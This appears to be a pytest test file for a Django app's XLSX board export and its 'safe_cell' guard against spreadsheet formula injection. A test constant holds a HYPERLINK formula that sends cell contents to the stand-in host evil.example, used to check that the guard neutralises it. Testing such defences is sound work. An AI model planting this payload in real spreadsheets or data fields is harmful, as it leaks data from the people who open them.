"""The board's XLSX export, read back with openpyxl, and `safe_cell`, the guard of every spreadsheet export."""

from __future__ import annotations

import datetime as dt
import io
from decimal import Decimal
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from khoagiao.core.testing import make_unit
from khoagiao.orgs.models import UnitKind
from khoagiao.reporting.choices import SubmissionStatus
from khoagiao.reporting.documents import board_xlsx, safe_cell
from khoagiao.reporting.models import Submission
from khoagiao.reporting.selectors_board import board_get
from khoagiao.reporting.tests.factories import make_duty

TZ = dt.timezone(dt.timedelta(hours=7))
MALICIOUS = '=HYPERLINK("http://evil.example/steal?d="&A1,"Bấm vào đây")'


# --- safe_cell --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (MALICIOUS, "'" + MALICIOUS),
        ("+84 905 123 456", "'+84 905 123 456"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Sở Y tế", "Sở Y tế"),
        ("Tỷ lệ 95% = tốt", "Tỷ lệ 95% = tốt"),
        ("", ""),
    ],
)
def test_safe_cell_neutralises_text_a_spreadsheet_would_run(value: str, expected: str) -> None:
    assert safe_cell(value) == expected


def test_safe_cell_leaves_numbers_dates_and_empty_cells_alone() -> None:
    day = dt.date(2026, 3, 17)
    for value in (-5, 0, 3.5, Decimal("-1.25"), True, day, None):
        assert safe_cell(value) == value


def test_safe_cell_drops_control_characters_openpyxl_cannot_store() -> None:
    assert safe_cell("Xã\x00 An\x1b Bình") == "Xã An Bình"
    assert safe_cell("\x01=cmd") == "'=cmd"  # the trigger behind a stripped character is caught too


def test_safe_cell_turns_other_objects_into_safe_text() -> None:
    class Named:
        def __str__(self) -> str:
            return "=1+1"

    assert safe_cell(Named()) == "'=1+1"


# --- The board's export ---------------------------------------------------------------------------------------


@pytest.fixture
def exported(cast: Any, monkeypatch: pytest.MonkeyPatch) -> dict[str, Any]:
    """A board with a unit whose name is a formula, one report on time and one late, exported on 01/07/2026."""
    now = dt.datetime(2026, 7, 1, 9, 30, tzinfo=TZ)
    monkeypatch.setattr(timezone, "now", lambda: now)
    evil = make_unit(MALICIOUS, parent=cast.department, code="don-vi-doc")
    duty = make_duty(cast)
    q1 = duty.periods.order_by("window_start").first()
    for unit, when in (
        (cast.education, dt.datetime(2026, 3, 16, 10, tzinfo=TZ)),
        (evil, dt.datetime(2026, 3, 25, tzinfo=TZ)),
    ):
        Submission.objects.filter(period=q1, unit=unit).update(
            status=SubmissionStatus.SUBMITTED, first_submitted_at=when, revision_count=1
        )
    client = Client()
    client.force_login(cast.specialist)
    response = client.get(reverse("reporting:board_export", args=[duty.pk]))
    return {"response": response, "duty": duty, "evil": evil, "now": now}


def sheet_of(content: bytes) -> Any:
    return load_workbook(io.BytesIO(content)).worksheets[0]


def rows_of(response: Any) -> list[tuple]:
    return list(sheet_of(response.content).iter_rows(values_only=True))


@pytest.mark.django_db
def test_the_export_is_an_xlsx_attachment_named_after_the_duty(exported: dict[str, Any]) -> None:
    response = exported["response"]
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"] == 'attachment; filename="tinh-hinh-nop-kg-quy-20260701-0930.xlsx"'
    assert response.content[:2] == b"PK"


@pytest.mark.django_db
def test_the_export_has_the_header_block_and_a_cell_per_unit_and_period(
    cast: Any, exported: dict[str, Any]
) -> None:
    rows = rows_of(exported["response"])
    assert rows[0][0] == "TÌNH HÌNH NỘP BÁO CÁO"
    header_block = {row[0]: row[1] for row in rows[1:6] if row[0]}
    assert header_block["Chế độ báo cáo"] == "Báo cáo quý công tác khoa giáo"
    assert header_block["Đơn vị nhận"] == "Ban Tuyên giáo và Dân vận Tỉnh ủy"
    assert header_block["Các kỳ"] == "Quý I/2026 – Quý III/2026"
    assert header_block["Lập lúc"] == "09:30 01/07/2026"
    header_index = next(i for i, row in enumerate(rows) if row[0] == "Mã đơn vị")
    header = rows[header_index]
    assert header[:7] == ("Mã đơn vị", "Đơn vị", "Loại", "Cấp", "Quý III/2026", "Quý II/2026", "Quý I/2026")
    assert header[7:] == (
        "Phải nộp (đã đến hạn)",
        "Đúng hạn",
        "Chậm",
        "Chưa nộp",
        "Tỷ lệ nộp (%)",
        "Tỷ lệ đúng hạn (%)",
    )
    units = {row[0]: row for row in rows[header_index + 1 :] if row[0]}
    assert set(units) == {"so-gddt", "so-yte", "xa-an-binh", "phuong-bac-son", "don-vi-doc"}
    education = units["so-gddt"]
    assert education[1] == "Sở Giáo dục và Đào tạo"
    assert education[4:7] == ("Chưa đến hạn", "Chưa nộp", "Đúng hạn")
    assert education[7:] == (2, 1, 0, 1, 50.0, 50.0)
    assert units["don-vi-doc"][6] == "Chậm"
    totals = rows[-1]
    assert totals[1] == "Tổng cộng: tỷ lệ nộp / đúng hạn (%)"
    assert totals[4] == "Chưa đến hạn"
    assert totals[6] == "40.0 / 20.0"  # Q1: 2 of 5 sent, 1 on time
    assert totals[7:] == (10, 1, 1, 8, 20.0, 10.0)


@pytest.mark.django_db
def test_a_unit_named_like_a_formula_is_written_as_text(exported: dict[str, Any]) -> None:
    sheet = sheet_of(exported["response"].content)
    formulas = [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert formulas == []
    evil_row = next(row for row in sheet.iter_rows() if row[0].value == "don-vi-doc")
    assert evil_row[1].value == "'" + MALICIOUS
    assert evil_row[1].data_type == "s"


@pytest.mark.django_db
def test_the_export_follows_the_boards_filters(cast: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    duty = make_duty(cast)
    agency = UnitKind.objects.get(code="agency")
    client = Client()
    client.force_login(cast.specialist)
    response = client.get(
        reverse("reporting:board_export", args=[duty.pk]), {"kind": str(agency.pk), "q": "y te"}
    )
    rows = rows_of(response)
    assert ("Lọc", "loại: Sở, ngành; tìm: «y te»") in [row[:2] for row in rows]
    header_index = next(i for i, row in enumerate(rows) if row[0] == "Mã đơn vị")
    assert [row[0] for row in rows[header_index + 1 :] if row[0]] == ["so-yte"]


@pytest.mark.django_db
def test_the_builder_writes_a_board_without_periods(cast: Any) -> None:
    from khoagiao.reporting.models import Period

    duty = make_duty(cast)
    Period.objects.filter(duty=duty).delete()
    board = board_get(user=cast.specialist, duty=duty)
    values = [row[:2] for row in sheet_of(board_xlsx(board)).iter_rows(values_only=True)]
    assert ("Các kỳ", "—") in values


@pytest.mark.django_db
def test_cells_of_the_export_carry_the_boards_colours(exported: dict[str, Any]) -> None:
    sheet = sheet_of(exported["response"].content)
    education = next(row for row in sheet.iter_rows() if row[0].value == "so-gddt")
    on_time, missing = education[6], education[5]  # Q1 (sent on time), Q2 (never sent, overdue)
    assert (on_time.value, on_time.fill.fgColor.rgb) == ("Đúng hạn", "00D1E7DD")
    assert (missing.value, missing.fill.fgColor.rgb) == ("Chưa nộp", "00F1AEB5")
